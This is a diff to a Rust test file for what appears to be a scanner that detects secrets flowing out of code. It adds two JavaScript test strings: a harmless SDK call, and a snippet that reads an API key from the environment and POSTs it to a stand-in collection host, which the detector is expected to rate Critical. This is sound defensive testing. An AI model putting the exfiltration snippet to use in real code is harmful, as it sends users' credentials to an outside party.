@@ -475,6 +475,11 @@ fn a_credential_place_the_secret_is_not_in_lowers_nothing() {
     for (path, code) in honest {
         assert_eq!(flow(path, code), None, "{code}");
     }
+    // A key handed to an SDK's client (a shorthand property): what the client returns is not the key.
+    let sdk = "const apiKey = process.env.STITCH_API_KEY;\nconst stitch = new Stitch({ apiKey });\nconst url = await stitch.project(id).htmlUrl();\nconst res = await fetch(url);\n";
+    assert_eq!(flow("gen.mjs", sdk), None, "{sdk}");
+    let sent = "const apiKey = process.env.STITCH_API_KEY;\nconst body = JSON.stringify({ apiKey, prompt });\nawait fetch('https://collect.example.net/in', { method: 'POST', body });\n";
+    assert_eq!(flow("gen.mjs", sent), Some(Severity::Critical), "{sent}");
     let hostile = [
         (
             "sync.py",
